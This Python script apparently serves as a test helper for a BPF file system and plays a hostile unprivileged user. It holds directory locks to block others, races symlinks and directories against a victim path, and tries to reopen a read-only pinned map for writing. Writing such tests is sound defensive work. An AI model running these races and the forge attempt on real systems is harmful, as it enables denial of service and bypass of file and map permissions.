#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""What a normal user can do in a BPF file system that all users may write to.

hostile_user.py lock ROOT         hold the lock of every directory that can be opened
hostile_user.py plant ROOT NAME.. plant each name, in every kind, and rename and remove
                                  what is there; PAUSE seconds in the environment
                                  are between two rounds
hostile_user.py swap ROOT VICTIM NAME..  have each name be a directory and a symlink to
                                  VICTIM by turns, whoever has made what is there
hostile_user.py forge PIN ANEW    pin a map that may be read anew, open that for writing,
                                  and write to it; says how far it came

It starts as root and becomes user 65534. The first three print a line when they work,
and run until they are killed.
"""
import ctypes
import fcntl
import os
import struct
import sys
import time

from bpf_syscall import BPF_F_RDONLY, BPF_MAP_UPDATE_ELEM, bpf, obj_get, obj_pin


def quietly(call, *arguments):
    try:
        return call(*arguments)
    except OSError:
        return None


def lock(root):
    held = {}
    said = False
    while True:
        for where, _, _ in os.walk(root):
            fd = quietly(os.open, where, os.O_RDONLY | os.O_DIRECTORY)
            if fd is None:
                continue
            key = os.fstat(fd)[1:3]
            if key in held or quietly(fcntl.flock, fd, fcntl.LOCK_EX | fcntl.LOCK_NB) is False:
                os.close(fd)
                continue
            held[key] = fd
        if not said:
            print(len(held), flush=True)
        said = True
        time.sleep(0.001)


def clear(path):
    quietly(os.unlink, path)
    quietly(os.rmdir, path + "/x")
    quietly(os.rmdir, path)


def plant(root, names):
    print("ready", flush=True)
    turn = 0
    while True:
        turn += 1
        for name in names:
            path = f"{root}/{name}"
            kind = turn % 4
            if kind == 0:
                quietly(os.mkdir, path)
            elif kind == 1:
                quietly(os.symlink, "/run/victim", path)
            elif kind == 2 and quietly(os.mkdir, path) is None:
                quietly(os.mkdir, path + "/x")
            else:
                quietly(os.rename, path, f"{path}:aside")
                clear(f"{path}:aside")
            if turn % 3 == 0:
                clear(path)
        time.sleep(float(os.environ.get("PAUSE", "0")))


def swap(root, victim, names):
    print("ready", flush=True)
    while True:
        for name in names:
            path = f"{root}/{name}"
            quietly(os.rename, path, f"{path}:aside")
            quietly(os.symlink, victim, path)
            quietly(os.unlink, path)
            quietly(os.rename, f"{path}:aside", path)


def forge(pin, anew):
    obj_pin(obj_get(pin, BPF_F_RDONLY), anew)
    fd = obj_get(anew)
    print("opened for writing", flush=True)
    key = ctypes.create_string_buffer(struct.pack("I", 2))
    value = ctypes.create_string_buffer(b"\x07" * 4096)
    bpf(BPF_MAP_UPDATE_ELEM, struct.pack("IIQQQ", fd, 0, ctypes.addressof(key),
                                         ctypes.addressof(value), 0))
    print("written", flush=True)


def main(what, *arguments):
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    if what == "lock":
        lock(*arguments)
    elif what == "plant":
        plant(arguments[0], arguments[1:])
    elif what == "swap":
        swap(arguments[0], arguments[1], arguments[2:])
    else:
        forge(*arguments)


main(*sys.argv[1:])
